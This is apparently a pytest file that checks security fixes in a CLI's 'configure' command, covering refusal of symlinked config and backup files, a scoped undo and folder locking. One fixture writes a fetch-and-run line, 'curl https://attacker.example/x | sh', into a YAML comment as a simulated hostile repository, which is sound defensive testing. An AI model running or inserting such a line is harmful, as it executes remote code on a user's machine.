# ruff: noqa: F811  (tests take the imported `world` fixture as their parameter)
"""Issue 21, red-team items 1, 4 and 16: configure's own file writes and its undo, through the real CLI and the
real toolkit against moto (in-process, tests/test_faults.py's world).

1. a symlinked `.bedrock_agentcore.yaml.bak` is refused, its target never written;
4. a declined run undoes only the toolkit's own writes, and only where they still hold its bytes: the user's edits
   and new files made while the IAM prompt waited stay, and the report names what was left;
16. a symlinked `.bedrock_agentcore.yaml` is refused before the toolkit can write through it.
"""

from __future__ import annotations

import subprocess
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from test_faults import AGENT, CONFIGURE, World, world  # noqa: F401  (the `world` fixture)

from agentcore_ext.cli import configure as configure_cli
from agentcore_ext.flows import transaction
from agentcore_ext.plan.model import Plan
from agentcore_ext.toolkit.config import CONFIG_FILE

BAK = f"{CONFIG_FILE}.bak"
TREE = Path(".bedrock_agentcore") / AGENT
OTHER_ROLE = "BedrockAgentCoreRuntime-team-shared"  # a name the developer may create (the tool's prefix)


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _answer(monkeypatch: pytest.MonkeyPatch, at_prompt: Callable[[], None], *, answer: bool = False) -> None:
    """The IAM prompt: `at_prompt` runs while it waits (someone at work in the folder), then `answer` is given."""

    def confirm(plan: Plan) -> bool:
        at_prompt()
        return answer

    monkeypatch.setattr(configure_cli, "confirmer", lambda settings: confirm)


def _shell_line_yaml(world: World) -> bytes:
    """A configured agent whose YAML carries a shell line (a cloned repository's), as the issue's reproduction."""
    assert world.run(*CONFIGURE).code == 0
    config = world.workdir / CONFIG_FILE
    config.write_bytes(config.read_bytes() + b"# |\n#   curl https://attacker.example/x | sh\n")
    return config.read_bytes()


def _hint_runs(world: World, hint: str) -> None:
    """The hint's command, run as a user would paste it (the text after the colon)."""
    command = hint.split(": ", 1)[1]
    subprocess.run(["sh", "-c", command], cwd=world.workdir, check=True)


# -- item 1 ------------------------------------------------------------------------------------------------------


def test_redteam_01_symlinked_bak_target_is_not_written(world: World, tmp_path_factory: pytest.TempPathFactory) -> None:
    yaml_bytes = _shell_line_yaml(world)
    bashrc = tmp_path_factory.mktemp("home") / ".bashrc"
    bashrc.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    (world.workdir / BAK).unlink(missing_ok=True)
    (world.workdir / BAK).symlink_to(bashrc)
    world.faults.clear()
    r = world.run(*CONFIGURE)
    assert r.code == 2, r.stderr
    assert r.codes == {"USAGE_ERROR"} and world.faults.operations == []  # refused before any AWS call
    error = r.finding("USAGE_ERROR")
    assert BAK in error["message"] and "symbolic link" in error["message"]
    assert bashrc.read_bytes() == b"export PATH=$HOME/bin:$PATH\n"
    assert (world.workdir / BAK).is_symlink() and (world.workdir / CONFIG_FILE).read_bytes() == yaml_bytes
    # the hint replaces the link with a copy of its target; then configure runs and backs up as always
    _hint_runs(world, error["hint"])
    assert not (world.workdir / BAK).is_symlink() and (world.workdir / BAK).read_bytes() == bashrc.read_bytes()
    again = world.run(*CONFIGURE)
    assert again.code == 0, again.stderr
    assert (world.workdir / BAK).read_bytes() == yaml_bytes and bashrc.read_bytes() == b"export PATH=$HOME/bin:$PATH\n"


# -- item 16 -----------------------------------------------------------------------------------------------------


def test_redteam_16_symlinked_yaml_is_refused_before_the_toolkit_runs(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory
) -> None:
    yaml_bytes = _shell_line_yaml(world)
    shared = tmp_path_factory.mktemp("shared") / "agentcore.yaml"
    shared.write_bytes(yaml_bytes)
    (world.workdir / CONFIG_FILE).unlink()
    (world.workdir / CONFIG_FILE).symlink_to(shared)
    _answer(monkeypatch, lambda: None)  # the run the issue saw: declined, "restored", the target kept the rewrite
    world.faults.clear()
    r = world.run("configure", "-e", "demo.py", "--disable-memory", "--role-name", OTHER_ROLE, "--json")
    assert r.code == 2, r.stderr
    assert r.codes == {"USAGE_ERROR"} and world.faults.operations == []
    error = r.finding("USAGE_ERROR")
    assert CONFIG_FILE in error["message"] and "symbolic link" in error["message"]
    assert shared.read_bytes() == yaml_bytes and (world.workdir / CONFIG_FILE).is_symlink()
    _hint_runs(world, error["hint"])
    assert not (world.workdir / CONFIG_FILE).is_symlink() and (world.workdir / CONFIG_FILE).read_bytes() == yaml_bytes
    before = _files(world.workdir)
    again = world.run("configure", "-e", "demo.py", "--disable-memory", "--role-name", OTHER_ROLE, "--json")
    assert again.code == 3 and again.codes == {"ROLE_CHANGE_DECLINED"}, again.stderr
    assert _files(world.workdir) == before and shared.read_bytes() == yaml_bytes


@pytest.mark.parametrize("link", [".dockerignore", ".bedrock_agentcore", f"{TREE}/Dockerfile"])
def test_redteam_16_every_path_the_toolkit_writes_through_is_refused_as_a_link(
    world: World, tmp_path_factory: pytest.TempPathFactory, link: str
) -> None:
    # The toolkit writes these with open()/write_text(), which follow a link (a dangling one creates its target).
    target = tmp_path_factory.mktemp("elsewhere") / "target"
    path = world.workdir / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    r = world.run(*CONFIGURE)
    assert r.code == 2 and r.codes == {"USAGE_ERROR"}, r.stderr
    assert link in r.finding("USAGE_ERROR")["message"]
    assert not target.exists() and world.faults.operations == []


# -- item 4 ------------------------------------------------------------------------------------------------------


def test_redteam_04_a_declined_run_keeps_the_users_edits_and_new_files(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    agent = world.workdir / "demo.py"

    def at_work() -> None:  # while the IAM prompt waits
        agent.write_text(agent.read_text() + "# edited while the prompt waited\n")
        (world.workdir / "notes.txt").write_text("todo\n")
        (world.workdir / "build.log").write_text("step 1\n")
        (world.workdir / TREE / "build.log").write_text("docker build ...\n")  # inside the toolkit's own tree

    _answer(monkeypatch, at_work)
    r = world.run("configure", "-e", "demo.py", "--disable-memory", "--json")
    assert r.code == 3 and r.codes == {"ROLE_CHANGE_DECLINED"}, r.stderr
    assert agent.read_text().endswith("# edited while the prompt waited\n")
    assert (world.workdir / "notes.txt").read_text() == "todo\n" and (world.workdir / "build.log").is_file()
    assert (world.workdir / TREE / "build.log").read_text() == "docker build ...\n"
    # what the toolkit wrote and nobody touched since is gone
    assert not (world.workdir / CONFIG_FILE).exists() and not (world.workdir / TREE / "Dockerfile").exists()
    message = r.finding("ROLE_CHANGE_DECLINED")["message"]
    assert "the folder was restored" not in message  # it was not: a folder holding others' files was left
    assert f"left {TREE}/" in message and "removed" in message and CONFIG_FILE in message


def test_redteam_04_a_toolkit_file_changed_at_the_prompt_is_left_and_the_report_says_so(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert world.run(*CONFIGURE).code == 0
    config = world.workdir / CONFIG_FILE
    theirs = config.read_bytes() + b"# another run's agent\n"
    _answer(monkeypatch, lambda: config.write_bytes(theirs))
    r = world.run("configure", "-e", "demo.py", "--disable-memory", "--role-name", OTHER_ROLE, "--json")
    assert r.code == 3 and r.codes == {"ROLE_CHANGE_DECLINED"}, r.stderr
    assert config.read_bytes() == theirs  # not put back over someone else's write
    message = r.finding("ROLE_CHANGE_DECLINED")["message"]
    assert f"left {CONFIG_FILE}" in message and "changed after the toolkit wrote" in message
    assert f"removed {BAK}" in message  # the backup nobody touched since is undone: there was none before


def test_redteam_04_a_failed_run_says_what_it_left(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    config = world.workdir / CONFIG_FILE

    def at_work() -> None:
        config.write_bytes(config.read_bytes() + b"# mine\n")

    _answer(monkeypatch, at_work, answer=True)
    from test_faults import refuse

    world.faults.add("iam", "before-call", "CreateRole", refuse("AccessDenied"))
    r = world.run("configure", "-e", "demo.py", "--disable-memory", "--json")
    assert r.code == 4, r.stderr
    assert config.read_bytes().endswith(b"# mine\n")
    left = r.finding("CONFIG_LEFT_CHANGED")
    assert CONFIG_FILE in left["message"] and left["severity"] == "warning"
    assert "removed .bedrock_agentcore/" in r.finding("CONFIG_RESTORED")["message"]


def test_redteam_04_a_second_configure_waits_for_the_folder_then_runs(world: World) -> None:
    holder = transaction.FolderLock(world.workdir)
    holder.acquire(lambda message: None)
    threading.Timer(1.0, holder.release).start()
    started = time.monotonic()
    r = world.run(*CONFIGURE)
    assert r.code == 0, r.stderr
    assert time.monotonic() - started >= 1.0
    assert "another agentcore-ext configure is running in this folder" in r.stderr


def test_redteam_04_a_folder_held_too_long_is_exit_3_and_nothing_changed(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transaction, "LOCK_WAIT_SECONDS", 0.5)
    holder = transaction.FolderLock(world.workdir)
    holder.acquire(lambda message: None)
    before = _files(world.workdir)
    try:
        r = world.run(*CONFIGURE)
    finally:
        holder.release()
    assert r.code == 3 and r.codes == {"CHECKS_FAILED"}, r.stderr
    failed = r.finding("CHECKS_FAILED")
    assert "another agentcore-ext configure" in failed["message"] and "nothing was changed" in failed["message"]
    assert "rerun" in failed["hint"]
    assert _files(world.workdir) == before and world.faults.writes == [] and world.role() is None
